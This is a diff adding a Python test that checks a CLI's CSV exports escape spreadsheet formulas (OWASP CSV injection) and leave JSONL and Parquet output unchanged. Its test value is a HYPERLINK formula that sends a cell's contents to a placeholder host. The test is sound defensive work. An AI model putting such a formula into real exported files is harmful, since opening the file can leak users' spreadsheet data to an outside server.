@@ -140,3 +140,54 @@ def test_the_readme_sql_queries_run_on_the_views(
         by_job[job_id] = by_job.get(job_id, 0) + n
     assert by_job == answered
     assert all(n > 0 and model in ("A", "B") for model, _kind, n in unparsed)
+
+
+HOSTILE_ID = '=HYPERLINK("http://x/?"&A1,"42")'
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(jobs_db: str, tmp_path: Path) -> None:
+    """A problem id and a model's answer that a spreadsheet would take for formulas (OWASP's CSV
+    injection) are quoted in every CSV (results, export, trajectories, report); a negative number
+    is not; JSONL and Parquet keep them as they are."""
+    from sqlalchemy import create_engine, text
+
+    engine = create_engine(jobs_db)
+    with engine.begin() as conn:
+        pid = conn.execute(text("SELECT min(id) FROM problems WHERE job_id = 3")).scalar_one()
+        conn.execute(
+            text(
+                "UPDATE problems SET item_id = :i, final_answer = '=1+1', reference_answer = '-5'"
+                " WHERE id = :p"
+            ),
+            {"i": HOSTILE_ID, "p": pid},
+        )
+        conn.execute(text("UPDATE outputs SET answer = '@SUM(A1:A9)' WHERE problem_id = :p"), {"p": pid})
+    engine.dispose()
+
+    def csv_rows(*args: str) -> list[dict[str, str]]:
+        out = tmp_path / "out.csv"
+        result = CliRunner().invoke(app, [*args, "-o", str(out)])
+        assert result.exit_code == 0, result.output
+        with out.open(newline="") as f:
+            return list(csv.DictReader(f))
+
+    for rows, id_field, answer_field in (
+        (csv_rows("results", "3", "--format", "csv"), "id", "final_answer"),
+        (csv_rows("export", "3", "--format", "csv"), "item_id", "answer"),
+    ):
+        hostile = next(r for r in rows if r[id_field].endswith(HOSTILE_ID))
+        assert hostile[id_field] == "'" + HOSTILE_ID and hostile[answer_field] == "'=1+1"
+        assert hostile["reference_answer" if id_field == "id" else "reference"] == "-5"
+    paths = csv_rows("export", "3", "--format", "csv", "--trajectories")
+    assert {r["answer"] for r in paths if r["item_id"] == "'" + HOSTILE_ID} == {"'@SUM(A1:A9)"}
+    report = CliRunner().invoke(app, ["report", "3", "-o", str(tmp_path / "report")])
+    assert report.exit_code == 0, report.output
+    with (tmp_path / "report" / "problems.csv").open(newline="") as f:
+        row = next(r for r in csv.DictReader(f) if r["item_id"].endswith(HOSTILE_ID))
+    assert (row["item_id"], row["final_answer"], row["reference_answer"]) == ("'" + HOSTILE_ID, "'=1+1", "-5")
+    # JSONL and Parquet are data, not spreadsheets: as stored.
+    record = next(r for r in _jsonl(_export("3")) if r["item_id"] == HOSTILE_ID)
+    assert record["answer"] == "=1+1"
+    parquet = tmp_path / "p.parquet"
+    _export("3", "--format", "parquet", "-o", str(parquet))
+    assert HOSTILE_ID in [r["item_id"] for r in pq.read_table(parquet).to_pylist()]
